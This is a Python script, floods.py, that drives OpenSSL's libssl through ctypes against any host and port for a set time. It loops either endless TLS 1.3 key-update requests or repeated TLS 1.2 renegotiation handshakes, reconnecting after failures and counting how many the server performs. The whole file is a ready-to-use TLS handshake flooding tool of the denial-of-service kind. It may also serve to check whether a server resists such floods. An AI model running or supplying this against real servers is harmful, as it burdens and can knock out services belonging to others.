"""A TLS client that begins again and again, by way of OpenSSL's own library.

    floods.py HOST PORT updates SECONDS     new keys without end (TLS 1.3)
    floods.py HOST PORT renegotiate SECONDS another handshake, on each connection

Prints how many of them the server has taken part in. The ssl module has no call
for either; what it is built on has.
"""

from __future__ import annotations

import ctypes
import ctypes.util
import socket
import sys
import time
from typing import Any

CTRL_MIN, CTRL_MAX = 123, 124  # SSL_CTX_set_min_proto_version(3)
VERSIONS = {"updates": 0x0304, "renegotiate": 0x0303}
REQUESTED = 1  # SSL_KEY_UPDATE_REQUESTED: the server is to change its own, too


def library() -> Any:
    """libssl, its pointers declared; OSError where there is none."""
    name = ctypes.util.find_library("ssl")
    if not name:
        raise OSError("there is no libssl to load")
    ssl = ctypes.CDLL(name)
    pointer, number = ctypes.c_void_p, ctypes.c_int
    ssl.TLS_client_method.restype = pointer
    ssl.SSL_CTX_new.restype, ssl.SSL_CTX_new.argtypes = pointer, [pointer]
    ssl.SSL_CTX_ctrl.argtypes = [pointer, number, ctypes.c_long, pointer]
    ssl.SSL_new.restype, ssl.SSL_new.argtypes = pointer, [pointer]
    ssl.SSL_set_fd.argtypes = ssl.SSL_key_update.argtypes = [pointer, number]
    for name in ("connect", "do_handshake", "renegotiate", "free"):
        getattr(ssl, f"SSL_{name}").argtypes = [pointer]
    return ssl


def flood(host: str, port: int, how: str, seconds: float) -> tuple[int, int]:
    """How many connections there were, and how many times the server has done
    what it was asked for."""
    ssl = library()
    context = ssl.SSL_CTX_new(ssl.TLS_client_method())
    for which in (CTRL_MIN, CTRL_MAX):
        ssl.SSL_CTX_ctrl(context, which, VERSIONS[how], None)
    connections = done = 0
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        with socket.create_connection((host, port), 5.0) as wire:
            wire.settimeout(None)  # OpenSSL waits by itself
            session = ssl.SSL_new(context)
            ssl.SSL_set_fd(session, wire.fileno())
            connections += 1
            good = ssl.SSL_connect(session) == 1
            while good and time.monotonic() < until:
                if how == "updates":
                    good = ssl.SSL_key_update(session, REQUESTED) == 1
                else:
                    good = ssl.SSL_renegotiate(session) == 1
                good = good and ssl.SSL_do_handshake(session) == 1
                done += good
            ssl.SSL_free(session)
    return connections, done


def main() -> None:
    host, port, how, seconds = sys.argv[1:]
    print(*flood(host, int(port), how, float(seconds)))


if __name__ == "__main__":
    main()
